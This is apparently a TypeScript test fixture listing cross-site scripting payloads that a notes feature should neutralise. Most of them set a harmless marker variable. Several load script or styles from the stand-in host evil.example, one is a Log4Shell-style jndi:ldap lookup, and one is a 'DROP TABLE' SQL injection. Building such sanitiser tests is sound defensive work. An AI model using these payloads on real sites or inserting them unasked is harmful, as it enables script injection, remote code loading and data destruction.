/** Set by every payload that manages to run. */
export const RAN = 'drinPayloadRan'

const run = `${RAN}=1`

/** What people write into a note when they want it to run: by element, by attribute, by address, by breaking out. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT >`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"//`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<image/src/onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<svg><a xlink:href="javascript:${run}"><text>x`,
  `<math><mtext><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="jav&#x09;ascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x`,
  `<button formaction="javascript:${run}">x`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<div style="background:url(javascript:${run})">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<style>*{animation:x}</style><b onanimationend=${run}>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;javascript:${run}">`,
  `<base href=//evil.example/>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea></textarea><img src=x onerror=${run}>`,
  `</title><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `" onmouseover=${run} x="`,
  `' onfocus=${run} autofocus x='`,
  `" style="x:expression(${run})`,
  `\`-(${run})-\``,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  '${' + run + '}',
  `#{${run}}`,
  `<%= ${run} %>`,
  `{0}<0>${run}</0>{name, plural, other {x}}`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `<script>${run}</script>`,
  `\u202e<script>${run}</script>`,
  `__proto__[${RAN}]=1`,
  `'; DROP TABLE orders; --`,
  `%s%n\${jndi:ldap://evil.example/x}`,
]

/** The payloads in texts of at most `length` characters, several in one where they fit; in the same order. */
export function inTextsOf(length: number): string[] {
  const texts: string[] = []
  for (const payload of SCRIPT_PAYLOADS) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length < length) texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  return texts
}
